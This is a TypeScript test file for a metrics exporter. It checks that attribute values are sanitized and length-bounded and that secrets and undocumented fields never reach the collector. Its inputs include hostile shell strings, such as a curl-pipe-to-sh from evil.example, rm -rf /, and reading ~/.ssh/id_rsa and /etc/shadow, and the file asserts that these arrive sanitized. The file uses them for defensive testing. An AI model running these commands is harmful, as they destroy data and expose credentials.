// What reaches the collector is bounded and documented: attribute values are at most 256 characters
// of [A-Za-z0-9._/-], undocumented fields never leave the process, and `tool` carries a name, never a
// command. Checked at the receiver, on decoded points and on the raw request bodies.
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_TAG_KEYS, METRICS, startCodexMetrics, type CodexMetricsSession } from '../../src/index.js';
import type { ReceivedPoint } from '../../src/verify/points.js';
import { DEFAULTS, startCollector, type Collector } from '../faults/harness.js';

const VALID = /^[A-Za-z0-9._/-]{1,256}$/;

let collector: Collector | undefined;
let session: CodexMetricsSession | undefined;
const bodies: Buffer[] = [];

afterEach(async () => {
  await session?.shutdown();
  await collector?.close();
  session = collector = undefined;
  bodies.length = 0;
});

/** Records (lenient, the default), exports once over OTLP/HTTP protobuf, returns the decoded points. */
async function exportOnce(record: (s: CodexMetricsSession) => void, defaults: Record<string, string> = DEFAULTS, protocol?: 'http/json'): Promise<ReceivedPoint[]> {
  collector = await startCollector((request) => {
    bodies.push(request.body);
    return undefined;
  });
  session = startCodexMetrics({ endpoint: collector.url, defaults, exportIntervalMillis: 60_000, exportTimeoutMillis: 2_000, env: {}, ...(protocol ? { protocol } : {}) });
  record(session);
  await session.forceFlush();
  return collector.receiver.points().filter((p) => p.metric.startsWith('codex.'));
}

function rawBodies(): string {
  return bodies.map((b) => b.toString('latin1')).join('\n');
}

/** The documented sanitizer, restated: trim, bad characters to `_`, at most 256, `unknown` when empty. */
function sanitized(value: string): string {
  const clean = value.trim().replace(/[^A-Za-z0-9._/-]/g, '_').slice(0, 256);
  return clean === '' ? 'unknown' : clean;
}

describe('attribute values are bounded', () => {
  it('a 100,000-character field value and 10,000-character default tags arrive as 256 characters', async () => {
    const points = await exportOnce(
      (s) => {
        s.metrics.add('tool.call', { tool: 'x'.repeat(100_000), success: true });
        s.metrics.add('sse_event', { kind: 'ü'.repeat(50_000), success: false });
      },
      { ...DEFAULTS, model: 'm'.repeat(10_000), 'app.version': `1.0.0+${'b'.repeat(10_000)}` },
    );
    expect(points).toHaveLength(2);
    for (const p of points) {
      for (const value of Object.values(p.attributes)) {
        expect(typeof value).toBe('string');
        expect(value as string).toMatch(VALID);
      }
      expect(p.attributes.model).toBe('m'.repeat(256));
      expect(p.attributes['app.version']).toBe(`1.0.0_${'b'.repeat(250)}`);
    }
    expect(points.find((p) => p.metric === 'codex.tool.call')!.attributes.tool).toBe('x'.repeat(256));
    expect(points.find((p) => p.metric === 'codex.sse_event')!.attributes.kind).toBe('_'.repeat(256));
    expect(rawBodies()).not.toContain('x'.repeat(257));
  });

  it('the resource attribute service.version is bounded and sanitized like the app.version tag', async () => {
    const version = `1.0 beta; rm -rf / ${'b'.repeat(10_000)}`;
    const points = await exportOnce((s) => s.metrics.add('task.review'), { ...DEFAULTS, 'app.version': version });
    const resourceVersion = points[0].resource['service.version'] as string;
    expect(points[0].attributes['app.version']).toMatch(VALID);
    expect(resourceVersion).toBe(points[0].attributes['app.version']);
    expect(Math.max(...bodies.map((b) => b.length))).toBeLessThan(4_000);
  });
});

describe('undocumented fields never reach the wire', () => {
  it('extra fields (command, password, env, JSON-parsed __proto__/constructor) are removed before export', async () => {
    const parsed = JSON.parse('{"tool":"shell","success":true,"__proto__":{"password":"hunter2-proto"},"constructor":"hunter2-ctor"}') as object;
    const points = await exportOnce((s) => {
      const add = s.metrics.add.bind(s.metrics) as (name: string, fields: unknown) => void;
      add('tool.call', { tool: 'shell', success: true, command: 'cat /etc/shadow', password: 'hunter2-field', env: { AWS_SECRET: 'hunter2-env' } });
      add('tool.call', parsed);
      add('task.review', { user: 'alice-hunter2', cwd: '/home/alice/hunter2' });
    });
    const toolCalls = points.filter((p) => p.metric === 'codex.tool.call');
    expect(toolCalls).toHaveLength(1);
    expect(toolCalls[0].value).toBe(2);
    expect(Object.keys(toolCalls[0].attributes).sort()).toEqual([...DEFAULT_TAG_KEYS, 'success', 'tool'].sort());
    const review = points.find((p) => p.metric === 'codex.task.review')!;
    expect(Object.keys(review.attributes).sort()).toEqual([...DEFAULT_TAG_KEYS].sort());
    // Not in any attribute, resource attribute or name: not anywhere in the bytes sent.
    for (const leaked of ['hunter2', 'shadow', 'AWS_SECRET', 'alice', 'password', 'command']) expect(rawBodies()).not.toContain(leaked);
  });

  it('every attribute key of every catalog metric is a default tag or a documented field (JSON transport too)', async () => {
    const points = await exportOnce(
      (s) => {
        const add = s.metrics.add.bind(s.metrics) as (name: string, fields: unknown) => void;
        const record = s.metrics.record.bind(s.metrics) as (name: string, value: number, fields: unknown) => void;
        for (const spec of METRICS) {
          const fields = { ...Object.fromEntries([...spec.required, ...spec.optional].map((k) => [k, 'v1'])), secret_note: 'hunter2' };
          if (spec.kind === 'counter') add(spec.name, fields);
          else record(spec.name, 1, fields);
        }
      },
      DEFAULTS,
      'http/json',
    );
    expect(points).toHaveLength(METRICS.length);
    for (const p of points) {
      const spec = METRICS.find((m) => `codex.${m.name}` === p.metric)!;
      const allowed = new Set<string>([...DEFAULT_TAG_KEYS, ...spec.required, ...spec.optional]);
      for (const [key, value] of Object.entries(p.attributes)) {
        expect(allowed.has(key), `${p.metric}: ${key}`).toBe(true);
        expect(value as string).toMatch(VALID);
      }
    }
    expect(rawBodies()).not.toContain('hunter2');
  });
});

describe('tool values are names, never commands', () => {
  const commands = [
    'rm -rf / --no-preserve-root',
    'curl -s https://evil.example/x.sh | sh',
    'bash -c "echo $(cat ~/.ssh/id_rsa)"',
    "python3 -c 'import os; os.system(\"id\")'",
    'git commit -m "secret: hunter2"\nexit 0',
    '  shell\t',
  ];

  it('a shell command passed as `tool` arrives sanitized (no spaces, no shell syntax), never verbatim', async () => {
    const points = await exportOnce((s) => {
      for (const command of commands) {
        s.metrics.add('tool.call', { tool: command, success: true });
        s.metrics.record('tool.call.duration_ms', 5, { tool: command, success: true });
        s.metrics.add('approval.requested', { tool: command, approved: 'denied' });
      }
    });
    const tools = points.map((p) => p.attributes.tool as string);
    expect(tools).toHaveLength(commands.length * 3);
    for (const tool of tools) {
      expect(tool).toMatch(VALID);
      expect(tool).not.toMatch(/[\s|;&$`'"()<>\\]/);
      expect(commands).not.toContain(tool);
    }
    expect(new Set(tools)).toEqual(new Set(commands.map(sanitized)));
    expect(sanitized(commands[0])).toBe('rm_-rf_/_--no-preserve-root');
    for (const command of commands.slice(0, 5)) expect(rawBodies()).not.toContain(command);
    expect(session!.metrics.stats().sanitized.invalid_value).toBe(commands.length * 3);
  });
});
